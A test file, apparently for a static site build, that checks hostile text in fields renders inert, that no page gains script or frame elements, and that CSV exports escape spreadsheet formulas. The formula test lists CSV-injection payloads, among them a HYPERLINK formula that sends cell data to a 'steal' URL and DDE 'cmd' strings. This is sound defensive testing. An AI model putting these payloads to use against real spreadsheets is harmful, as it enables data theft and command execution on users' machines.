/**
 * Valid but hostile input: markup and script in every text field, right-to-left and very long names, huge and
 * negative numbers. The build succeeds, every string comes out as inert text, and no page gains an element.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseHTML } from 'linkedom';
import sharp from 'sharp';
import { listFiles } from '../../src/build/checks/leaks.ts';
import { build, hasStackTrace, type Run } from './run.ts';
import { csvParse } from 'd3-dsv';
import { XMLParser } from 'fast-xml-parser';
import { formulaRows, hostileFixture, longName, payload, rtl } from './fixture.ts';

describe('hostile but valid content', () => {
  const fixture = hostileFixture();
  const dist = join(fixture.root, 'out');
  let run: Run;
  const doc = (path: string) => parseHTML(readFileSync(join(dist, path), 'utf8')).document;
  const text = (path: string) => doc(path).body.textContent ?? '';

  beforeAll(() => {
    run = build(fixture.root, dist);
  });

  it('builds in time, without a stack trace', () => {
    expect(run.signal).toBeNull();
    expect(run.status, run.output).toBe(0);
    expect(hasStackTrace(run.output)).toBe(false);
  });

  it('no page gains an element from the content: no script, image, frame or event handler', () => {
    const pages = listFiles(dist).filter((p) => p.endsWith('.html'));
    expect(pages.length).toBeGreaterThan(8);
    for (const page of pages) {
      const injected = [...doc(page).querySelectorAll('*')]
        .filter(
          (el) =>
            ['IMG', 'IFRAME', 'MARQUEE', 'OBJECT', 'EMBED'].includes(el.tagName) ||
            [...el.attributes].some((a) => a.name.toLowerCase().startsWith('on')) ||
            (el.tagName === 'SCRIPT' &&
              el.getAttribute('type') !== 'application/ld+json' &&
              el.getAttribute('src') !== '/search/search.js'),
        )
        .map((el) => el.outerHTML.slice(0, 120));
      expect({ page, injected }).toEqual({ page, injected: [] });
    }
  });

  it.each([
    ['story-title', 'stories/hostile/index.html'],
    ['story-summary', 'stories/hostile/index.html'],
    ['author', 'stories/hostile/index.html'],
    ['story-correction', 'stories/hostile/index.html'],
    ['publisher', 'stories/hostile/index.html'],
    ['source-title', 'stories/hostile/index.html'],
    ['dataset-correction', 'stories/hostile/index.html'],
    ['row-value', 'stories/hostile/index.html'],
    ['case-subject', 'cases/long-name/index.html'],
    ['case-summary', 'cases/long-name/index.html'],
    ['dataset-title', 'data/extremes/index.html'],
    ['dataset-description', 'data/extremes/index.html'],
    ['license', 'data/extremes/index.html'],
    ['column-label', 'data/extremes/index.html'],
    ['column-description', 'data/extremes/index.html'],
    ['unit', 'data/extremes/index.html'],
    ['dataset-note', 'data/extremes/index.html'],
    ['story-title', 'corrections/index.html'],
    ['story-title', 'index.html'],
  ])('the %s field shows as the literal text it was written as on %s', (field, page) => {
    expect(text(page)).toContain(payload(field));
  });

  it('the headline stays one text node in <h1> and <title>, and parses back from the JSON-LD', () => {
    const page = doc('stories/hostile/index.html');
    expect(page.querySelector('h1')?.textContent).toBe(payload('story-title'));
    expect(page.querySelector('h1')?.children.length).toBe(0);
    expect(page.querySelector('title')?.textContent).toContain(payload('story-title'));
    const ld = JSON.parse(page.querySelector('script[type="application/ld+json"]')?.textContent ?? '');
    expect(ld.headline).toBe(payload('story-title'));
    expect(ld.author[0].name).toBe(payload('author'));
  });

  it('right-to-left and very long names are printed whole, and get a social card', async () => {
    expect(doc('stories/rtl/index.html').querySelector('h1')?.textContent).toBe(rtl.hebrew);
    expect(text('stories/rtl/index.html')).toContain(rtl.arabic);
    expect(doc('cases/long-name/index.html').querySelector('h1')?.textContent).toBe(longName);
    for (const card of ['og/stories/rtl.png', 'og/cases/long-name.png', 'og/stories/hostile.png']) {
      const meta = await sharp(readFileSync(join(dist, card))).metadata();
      expect([card, meta.width, meta.height]).toEqual([card, 1200, 630]);
    }
  });

  it('huge and negative numbers are printed in full, in the page and in the downloads', () => {
    const huge = new Intl.NumberFormat('en').format(1e308);
    expect(text('data/extremes/index.html')).toContain(huge);
    // Pages write a negative with the minus sign, as charts do; the downloads keep the machine's hyphen-minus.
    expect(text('data/extremes/index.html')).toContain('\u221242.5');
    expect(text('stories/hostile/index.html')).toContain('\u221242.5');
    const csv = readFileSync(join(dist, 'data/extremes.csv'), 'utf8');
    expect(csv.split('\n').map((line) => line.split(',').at(-2))).toContain('1e+308');
    expect(csv).toMatch(/(?:^|,)-42\.5(?:,|\r?$)/m);
    const json = JSON.parse(readFileSync(join(dist, 'data/extremes.json'), 'utf8'));
    expect(JSON.stringify(json)).toContain('1e+308');
  });

  it('no CSV cell runs as a spreadsheet formula: text starting with = + - @ or a tab gets a leading apostrophe; numbers, and text that is one, stay as they are', () => {
    const rows = csvParse(readFileSync(join(dist, 'data/formulas.csv'), 'utf8'));
    expect(rows.map((row) => [row.label, row.value])).toEqual([
      [`'=HYPERLINK("https://example.org/steal?d="&A1,"Details")`, '1'],
      ["'+cmd|' /C calc'!A0", '-2'],
      ["'-2+3", '-40.5'],
      ["'@SUM(1+1)*cmd|' /C calc'!A0", '0'],
      ["'\t=1+1", '3'],
      ['-12.5', '4'],
      ['+7', '5'],
      ['Plain text = fine', '6'],
    ]);
    // The JSON download and the page keep the text as written: only a spreadsheet runs a cell.
    const json = JSON.parse(readFileSync(join(dist, 'data/formulas.json'), 'utf8'));
    expect(json.rows.map((row: { label: string }) => row.label)).toEqual(formulaRows.map(([label]) => label));
    expect(text('data/formulas/index.html')).toContain(formulaRows[0]![0]);
  });

  it("the feed's descriptions, which feed readers show as HTML, hold the summaries and corrections as text: no element", () => {
    const parser = new XMLParser({ ignoreAttributes: false });
    const items: { title: string; description: string }[] = [].concat(
      parser.parse(readFileSync(join(dist, 'rss.xml'), 'utf8')).rss.channel.item,
    );
    const shown = (html: string) => parseHTML(`<!doctype html><html><body>${html}</body></html>`).document.body;
    const descriptions = new Map(items.map((item) => [item.description, shown(item.description)]));
    for (const field of ['story-summary', 'story-correction', 'case-summary', 'dataset-correction']) {
      const written = [...descriptions].find(([, body]) => body.textContent === payload(field));
      expect({ field, found: written !== undefined }).toEqual({ field, found: true });
    }
    for (const [description, body] of descriptions)
      expect({ description, elements: body.querySelectorAll('*').length }).toEqual({ description, elements: 0 });
  });
});
